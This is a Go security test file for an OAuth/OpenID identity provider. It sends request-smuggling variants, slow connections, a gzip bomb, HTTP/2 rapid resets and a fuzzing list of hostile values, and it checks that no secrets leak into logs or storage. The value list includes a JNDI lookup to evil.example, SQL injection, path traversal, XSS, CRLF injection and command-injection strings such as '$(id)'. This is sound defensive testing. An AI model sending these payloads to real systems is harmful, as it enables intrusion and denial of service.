package handlers_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/idpkit/idpkit/handlers"
	"github.com/idpkit/idpkit/storage"
)

// TestAttackH01_smuggling: requests that two servers could read differently.
// RFC 9112 §6.3.
func TestAttackH01_smuggling(t *testing.T) {
	t.Parallel()
	w := newWorld(t, noLimits)
	code := w.signedIn("spa").code(request("spa"), "alice")
	form := url.Values{"grant_type": {"authorization_code"}, "client_id": {"spa"}, "code": {code}, "code_verifier": {first(pkcePair("spa"))}, "redirect_uri": {spaRedirect}}.Encode()
	host := "Host: " + w.srv.Listener.Addr().String() + "\r\n"
	post := "POST /token HTTP/1.1\r\n" + host + "Content-Type: " + formType + "\r\n"
	n := itoa(len(form))
	chunked := func(body string) string {
		return strings.ToLower(regexp.MustCompile(`^0+`).ReplaceAllString(hex(len(body)), "")) + "\r\n" + body + "\r\n0\r\n\r\n"
	}
	for name, req := range map[string]string{
		"H01 length and chunks":           post + "Content-Length: " + n + "\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + form,
		"H01 two lengths":                 post + "Content-Length: " + n + "\r\nContent-Length: 0\r\n\r\n" + form,
		"H01 two lengths in one line":     post + "Content-Length: " + n + ", 0\r\n\r\n" + form,
		"H01 negative length":             post + "Content-Length: -1\r\n\r\n" + form,
		"H01 length with a sign":          post + "Content-Length: +" + n + "\r\n\r\n" + form,
		"H01 obs-fold":                    post + "X-Y: a\r\n b\r\nContent-Length : " + n + "\r\n\r\n" + form,
		"H01 blank before the colon":      post + "Content-Length : " + n + "\r\n\r\n" + form,
		"H01 unknown transfer encoding":   post + "Transfer-Encoding: xchunked\r\n\r\n" + form,
		"H01 two transfer encodings":      post + "Transfer-Encoding: chunked, identity\r\n\r\n" + form,
		"H01 NUL in a header":             post + "X-Y: a\x00b\r\nContent-Length: " + n + "\r\n\r\n" + form,
		"H01 CR in a header":              post + "X-Y: a\rb\r\nContent-Length: " + n + "\r\n\r\n" + form,
		"H01 nameless header":             post + ": x\r\nContent-Length: " + n + "\r\n\r\n" + form,
		"H01 broken chunk":                post + "Transfer-Encoding: chunked\r\n\r\nzz\r\n" + form + "\r\n0\r\n\r\n",
		"H01 chunk beyond all bounds":     post + "Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n" + form,
		"H01 no host":                     "POST /token HTTP/1.1\r\nContent-Type: " + formType + "\r\nContent-Length: " + n + "\r\n\r\n" + form,
		"H01 two hosts":                   "POST /token HTTP/1.1\r\n" + host + "Host: evil.example\r\nContent-Type: " + formType + "\r\nContent-Length: " + n + "\r\n\r\n" + form,
		"H01 blank in the target":         "POST /token /x HTTP/1.1\r\n" + host + "\r\n",
		"H01 no version":                  "GET /token\r\n\r\n",
		"H01 HTTP/3 in words":             "GET /token HTTP/3.0\r\n" + host + "\r\n",
		"H01 length without a media type": "POST /token HTTP/1.1\r\n" + host + "Content-Length: " + n + "\r\n\r\n" + form,
	} {
		t.Run(name, func(t *testing.T) {
			answers, _ := w.in(t).raw([]byte(req))
			if len(answers) > 1 && answers[0].StatusCode < 400 {
				t.Fatalf("%d answers to one request, the first %d", len(answers), answers[0].StatusCode)
			}
			for _, a := range answers {
				if a.StatusCode < 400 || a.StatusCode >= 500 && a.StatusCode != http.StatusNotImplemented && a.StatusCode != http.StatusHTTPVersionNotSupported {
					body, _ := io.ReadAll(a.Body)
					t.Errorf("status %d: %.200s", a.StatusCode, body)
				}
			}
		})
	}
	t.Run("H01 chunks with an extension and a trailer", func(t *testing.T) {
		// Well-formed, so served, once.
		body := strings.Replace(chunked(form), "\r\n", ";x=y\r\n", 1)
		answers, _ := w.in(t).raw([]byte(post + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n" + body))
		if len(answers) != 1 || answers[0].StatusCode != 200 {
			t.Errorf("%d answers", len(answers))
		}
	})
	t.Run("H01 pipelined", func(t *testing.T) {
		one := post + "Content-Length: " + n + "\r\n\r\n" + form
		answers, _ := w.in(t).raw([]byte(one + one))
		if len(answers) != 2 || answers[0].StatusCode != 400 || answers[1].StatusCode != 400 { // the code is spent by now
			t.Errorf("%d answers", len(answers))
		}
	})
	w.alive()
}

func hex(n int) string {
	const digits = "0123456789abcdef"
	s := ""
	for ; n > 0; n >>= 4 {
		s = string(digits[n&15]) + s
	}
	return s
}

// TestAttackH02_slow: a server with the limits that the kit documents lets
// nobody hold a connection for ever by sending slowly. CWE-400.
func TestAttackH02_slow(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	srv := httptest.NewUnstartedServer(w.p.Handler())
	srv.Config.ReadHeaderTimeout, srv.Config.ReadTimeout = 200*time.Millisecond, 400*time.Millisecond
	srv.Start()
	t.Cleanup(srv.Close)
	for name, begin := range map[string]string{
		"headers": "POST /token HTTP/1.1\r\nHost: x\r\n",
		"body":    "POST /token HTTP/1.1\r\nHost: x\r\nContent-Type: " + formType + "\r\nContent-Length: 1000\r\n\r\n",
		"chunks":  "POST /par HTTP/1.1\r\nHost: x\r\nContent-Type: " + formType + "\r\nTransfer-Encoding: chunked\r\n\r\n",
	} {
		t.Run("H02 slow "+name, func(t *testing.T) {
			t.Parallel()
			c, err := net.Dial("tcp", srv.Listener.Addr().String())
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			_, _ = c.Write([]byte(begin))
			stop := make(chan struct{})
			defer close(stop)
			go func() {
				for {
					select {
					case <-stop:
						return
					case <-time.After(50 * time.Millisecond):
						_, _ = c.Write([]byte("a"))
					}
				}
			}()
			_ = c.SetReadDeadline(time.Now().Add(time.Minute)) // against hanging
			b, err := io.ReadAll(c)
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				t.Fatal("the server waited on")
			}
			if len(b) > 0 && !regexp.MustCompile(`^HTTP/1\.1 4\d\d `).Match(b) {
				t.Errorf("%.100s", b)
			}
		})
	}
}

// TestAttackH04_compressed: compressed bodies are refused unread. CWE-409.
func TestAttackH04_compressed(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	_, _ = z.Write(make([]byte, 10<<20))
	_ = z.Close()
	for _, path := range []string{"/token", "/par", "/revoke"} {
		for _, enc := range []string{"gzip", "deflate", "br", "identity", "", "gzip, gzip"} {
			w.send("POST", path, bomb.String(), "Content-Type", formType, "Content-Encoding", enc).clean().wantError(415, "invalid_request")
		}
	}
	w.send("POST", "/userinfo", bomb.String(), "Content-Type", formType, "Content-Encoding", "gzip").clean().want(415)
	w.send("POST", "/authorize", bomb.String(), "Content-Type", formType, "Content-Encoding", "gzip").clean().wantPage()
	w.send("POST", "/logout", bomb.String(), "Content-Type", formType, "Content-Encoding", "gzip").clean().wantPage()
	w.alive()
}

// TestAttackH06_HSTS: every answer over https asks for https. ASVS 5.0 V3.4.1.
func TestAttackH06_HSTS(t *testing.T) {
	t.Parallel()
	w := newWorld(t, func(c *handlers.Config) { c.Issuer = strings.Replace(c.Issuer, "http:", "https:", 1) })
	b := w.browser()
	login := b.begin(request("native"))
	u, _ := login.location()
	for _, res := range []response{
		login, b.get(u.String()), b.get("/authorize"), b.get("/login"), b.get("/logout"), w.getWith("/.well-known/openid-configuration"), w.getWith("/jwks"),
		w.getWith("/token"), w.call("/token", url.Values{}), w.call("/par", url.Values{}), w.userinfo("x"),
	} {
		if got := res.Header.Get("Strict-Transport-Security"); got != "max-age=31536000" {
			t.Errorf("%s %s: %q", res.Request.Method, res.Request.URL.Path, got)
		}
	}
	for _, c := range login.Cookies() {
		if !c.Secure || !strings.HasPrefix(c.Name, "__Host-") {
			t.Errorf("cookie %v", c)
		}
	}
	plain := newWorld(t)
	if got := plain.getWith("/jwks").Header.Get("Strict-Transport-Security"); got != "" {
		t.Errorf("over http: %q", got)
	}
}

// TestAttackH08_resets: a client that opens streams and resets them at once
// does not stop the server. CVE-2023-44487.
func TestAttackH08_resets(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	srv := httptest.NewUnstartedServer(w.p.Handler())
	srv.EnableHTTP2 = true
	srv.StartTLS()
	defer srv.Close()
	c := srv.Client()
	for range 300 {
		ctx, cancel := context.WithCancel(context.Background())
		r, err := http.NewRequestWithContext(ctx, "POST", srv.URL+"/token", strings.NewReader("grant_type=x"))
		if err != nil {
			t.Fatal(err)
		}
		go cancel()
		if res, err := c.Do(r); err == nil {
			res.Body.Close()
		}
	}
	res, err := c.Get(srv.URL + "/jwks")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if res.StatusCode != 200 || res.ProtoMajor != 2 {
		t.Errorf("status %d, %s", res.StatusCode, res.Proto)
	}
}

// TestAttackH09_H10_H14_hostile sends what no client should to every endpoint by every
// method: nothing becomes a fault (H09), nothing of the inside shows (H10), and
// the provider serves on (H14).
func TestAttackH09_H10_H14_hostile(t *testing.T) {
	t.Parallel()
	w := newWorld(t, noLimits)
	w.quick()
	b := w.signedIn("spa")
	at := b.issue("spa").str("access_token")
	u, _ := b.begin(request("spa", "prompt", "consent")).location()
	page := strings.TrimPrefix(u.String(), w.srv.URL)
	values := []string{
		"", "\x00", "\xff\xfe", "%zz", "%00", "'; DROP TABLE grants; --", "${jndi:ldap://evil.example/x}", "{{7*7}}", "../../../../etc/passwd", "<script>alert(1)</script>",
		"\r\nSet-Cookie: x=y", strings.Repeat("a", 7000), strings.Repeat("[", 3000), `{"a":{"a":`, "null", "-1", "99999999999999999999", "\u202e\u0000", "a\nb", "*", "|ls", "$(id)",
	}
	names := []string{"client_id", "client_secret", "redirect_uri", "scope", "state", "nonce", "response_type", "response_mode", "prompt", "max_age", "claims", "login_hint", "ui_locales",
		"acr_values", "id_token_hint", "authorization_details", "resource", "request_uri", "code", "code_verifier", "code_challenge", "grant_type", "refresh_token", "token",
		"interaction", "csrf", "do", "username", "post_logout_redirect_uri", "client_assertion", "client_assertion_type", "access_token", "detail", "remember"}
	check := func(res response) {
		t.Helper()
		res.clean()
		if strings.Contains(res.body, "<script>alert") || res.Header.Get("Set-Cookie") == "x=y" {
			t.Errorf("%s %s: reflected", res.Request.Method, res.Request.URL)
		}
		if u, err := url.Parse(res.Header.Get("Location")); err == nil && u.Host != "" && !strings.HasSuffix(u.Host, ".example") && u.Host != "127.0.0.1:51004" && u.Host != w.srv.Listener.Addr().String() {
			t.Errorf("led to %s", u)
		}
	}
	base := map[string]url.Values{
		"/authorize": request("native"), "/par": request("native"), "/userinfo": {"access_token": {at}}, "/revoke": {"client_id": {"native"}, "token": {at}},
		"/token":  {"grant_type": {"authorization_code"}, "client_id": {"native"}, "code": {"ac_x"}, "code_verifier": {"x"}, "redirect_uri": {"http://127.0.0.1:1/cb"}},
		"/logout": {"client_id": {"spa"}, "state": {"s"}}, "/login": {"do": {"login"}}, page: {"do": {"allow"}}, "/consent": {"do": {"allow"}},
		"/jwks": {}, "/.well-known/openid-configuration": {}, "/.well-known/oauth-authorization-server": {},
	}
	requests := 0
	for path, good := range base {
		for i, name := range names {
			for j, v := range values {
				if (i+j)%17 != 0 || name == "client_id" && path != "/authorize" { // a part of the square, every value and every name; stretching for unknown clients is slow
					continue
				}
				q := url.Values{}
				for k, vs := range good {
					q[k] = vs
				}
				q.Set(name, v)
				requests += 2
				check(b.post(path, q))
				sep := "?"
				if strings.Contains(path, "?") {
					sep = "&"
				}
				check(b.get(path + sep + q.Encode()))
			}
		}
		for _, m := range []string{"HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECTX", "get"} {
			requests++
			check(w.send(m, path, ""))
		}
		for _, header := range [][]string{
			{"Authorization", "Bearer " + strings.Repeat("a", 20000)}, {"Authorization", "Basic " + b64("\xff:\xff")}, {"Authorization", "Negotiate x"}, {"Authorization", "\x01"},
			{"Cookie", strings.Repeat("a=b; ", 2000)}, {"Cookie", "idp-x-session=se_x; idp-x-session=se_y"}, {"Origin", "null"}, {"Origin", "\u00e9"}, {"Accept-Language", strings.Repeat("de,", 2000)},
			{"X-Forwarded-Host", "evil.example"}, {"X-Forwarded-For", "127.0.0.1, ,,x"}, {"Content-Type", formType + "; charset=utf-7"}, {"Content-Type", strings.Repeat("a/", 2000)}, {"Sec-Fetch-Site", "cross-site"},
		} {
			if strings.Contains(header[1], "\x01") {
				continue // net/http refuses to send it
			}
			requests += 2
			check(w.send("POST", path, good.Encode(), header...))
			check(w.send("GET", path, "", header...))
		}
	}
	t.Logf("%d hostile requests", requests)
	w.userinfo(at).want(200)
	w.alive()
	if strings.Contains(w.logged.String(), `"panic"`) {
		t.Error("a handler panicked")
	}
}

// TestAttackH11_secrets runs every flow with the log at debug level, and looks
// for each secret that went by: in the log, in the events, and in the storage,
// where it must be neither written nor recoverable by decoding. CWE-532.
func TestAttackH11_secrets(t *testing.T) {
	t.Parallel()
	l := newLab(t, noLimits)
	l.quick()
	l.vault.keep = true
	for _, client := range []string{"spa", "web", "post", "native"} {
		scope := []string{"scope", "openid offline_access", "prompt", "consent"}
		b := l.browser()
		_ = l.push(request(client, scope...))
		code := b.code(request(client, scope...), "alice")
		tok := l.redeem(client, code).want(200)
		one := l.refresh(client, tok.str("refresh_token")).want(200)
		l.refresh(client, tok.str("refresh_token")).want(200) // grace
		l.userinfo(one.str("access_token")).want(200)
		l.getWith("/userinfo", "Authorization", "Bearer "+one.str("access_token"), "Origin", spaOrigin)
		// Refusals log more than successes do.
		fresh := b.code(request(client, scope...), "alice")
		l.redeem(client, fresh, "code_verifier", strings.Repeat("w", 43))
		l.redeem(client, fresh, "redirect_uri", "https://evil.example")
		l.redeem("m2m", fresh)
		l.redeem(client, code)                        // replay
		l.refresh(client, one.str("refresh_token"))   // dead by now
		l.userinfo(one.str("access_token")).want(401) // dead
		l.revokeToken(client, one.str("refresh_token"))
		other := l.redeem(client, fresh).want(200)
		l.revokeToken(client, other.str("access_token"))
		l.getWith("/userinfo?access_token=" + other.str("access_token"))
		u, _ := b.begin(request(client, "scope", "openid", "prompt", "login")).location()
		page := b.get(u.String())
		b.post(u.String(), url.Values{"csrf": {csrf(page)}, "username": {"alice"}, "password": {"not-the-password"}, "do": {"login"}})
		b.post(u.String(), url.Values{"csrf": {"wrong-csrf-wrong-csrf"}, "username": {"alice"}, "password": {password}, "do": {"login"}})
		l.browser().get(u.String())
		b.get("/logout?" + url.Values{"id_token_hint": {other.str("id_token")}, "client_id": {"nobody"}}.Encode())
		b.get("/logout?" + url.Values{"id_token_hint": {other.str("id_token")}}.Encode())
	}
	l.call("/token", url.Values{"grant_type": {"authorization_code"}, "code": {"ac_x"}}, "Authorization", basic("web", "wrong-secret-of-somebody"))
	l.clients.setErr(errAway)
	l.refresh("spa", "rt_"+strings.Repeat("A", 97))
	l.clients.setErr(nil)

	secrets := l.spy.all()
	kinds := map[string]int{}
	for _, what := range secrets {
		kinds[strings.Split(what, "-")[0]]++
	}
	for _, want := range []string{"code", "access_token", "refresh_token", "id_token", "code_verifier", "client_secret", "password", "csrf", "interaction", "request_uri", "cookie idp"} {
		if kinds[want] == 0 {
			t.Fatalf("no %s went by: %v", want, kinds)
		}
	}
	events, err := json.Marshal(l.events.es)
	if err != nil {
		t.Fatal(err)
	}
	logged := l.logged.String()
	if !strings.Contains(logged, "refused") || !strings.Contains(logged, "code.redeemed") {
		t.Fatal("the log is empty")
	}
	for secret, what := range secrets {
		for _, form := range []string{secret, url.QueryEscape(secret), b64(secret)} {
			if strings.Contains(logged, form) {
				t.Errorf("the log has a %s", what)
			}
			if strings.Contains(string(events), form) {
				t.Errorf("an event has a %s", what)
			}
		}
	}

	// Every version of every row, and all that its strings decode to.
	var stored [][]byte
	l.vault.mu.Lock()
	past := l.vault.past
	l.vault.mu.Unlock()
	for i := range past {
		r := &past[i]
		for _, s := range []string{r.Key, r.Subject, r.Client, r.Session, r.Grant} {
			stored = append(stored, []byte(s))
			stored = append(stored, decoded(s)...)
		}
		stored = append(stored, r.Data)
		var v any
		if len(r.Data) > 0 && json.Unmarshal(r.Data, &v) != nil {
			t.Fatalf("%s: the data is no JSON", r.Kind)
		}
		walk(v, func(s string) {
			stored = append(stored, []byte(s))
			stored = append(stored, decoded(s)...)
		})
	}
	if len(stored) < 100 {
		t.Fatalf("only %d stored values", len(stored))
	}
	all := bytes.Join(stored, []byte{'\n', 0, '\n'})
	for secret, what := range secrets {
		for _, part := range secretParts(what, secret) {
			if bytes.Contains(all, part) {
				t.Errorf("the storage has a %s", what)
			}
		}
	}
	l.alive()
}

// secretParts returns what of a value makes it a credential: the value, and
// its random bytes. A refresh token also names its grant, and a session cookie
// its session, which the storage may know.
func secretParts(what, s string) [][]byte {
	parts := [][]byte{[]byte(s)}
	body := s
	for _, prefix := range []string{"ac_", "at_", "rt_", "ix_", "urn:ietf:params:oauth:request_uri:"} {
		body = strings.TrimPrefix(body, prefix)
	}
	if i := strings.LastIndexByte(body, '.'); i >= 0 { // the secret half of a cookie, the signature of a JWT
		body = body[i+1:]
	}
	switch {
	case what == "refresh_token" && strings.HasPrefix(s, "rt_"):
		if d := decoded(s[3:]); len(d) > 0 && len(d[0]) > 54 {
			parts = append(parts, d[0][22:54])
		}
	case what == "code_verifier", what == "client_secret", what == "password", what == "csrf":
	default:
		parts = append(parts, []byte(body))
		for _, d := range decoded(body) {
			if len(d) >= 16 {
				parts = append(parts, d)
			}
		}
	}
	return parts
}

// walk calls f for every string in a decoded JSON value.
func walk(v any, f func(string)) {
	switch x := v.(type) {
	case string:
		f(x)
	case []any:
		for _, e := range x {
			walk(e, f)
		}
	case map[string]any:
		for k, e := range x {
			f(k)
			walk(e, f)
		}
	}
}

// TestAttackH11_scanner: the search above finds what it is to find.
func TestAttackH11_scanner(t *testing.T) {
	t.Parallel()
	var got []string
	walk(map[string]any{"a": []any{"x", map[string]any{"b": "y"}}, "c": 1.0}, func(s string) { got = append(got, s) })
	if len(got) != 5 {
		t.Errorf("%q", got)
	}
	v := &vault{inner: nil, refs: map[storage.Ref]bool{}}
	if v.keep || !reflect.DeepEqual(secretParts("password", "wonderland"), [][]byte{[]byte("wonderland")}) {
		t.Error("password")
	}
	if n := len(secretParts("code", "ac_"+strings.Repeat("QUFB", 13))); n < 3 {
		t.Errorf("%d parts of a code", n)
	}
}
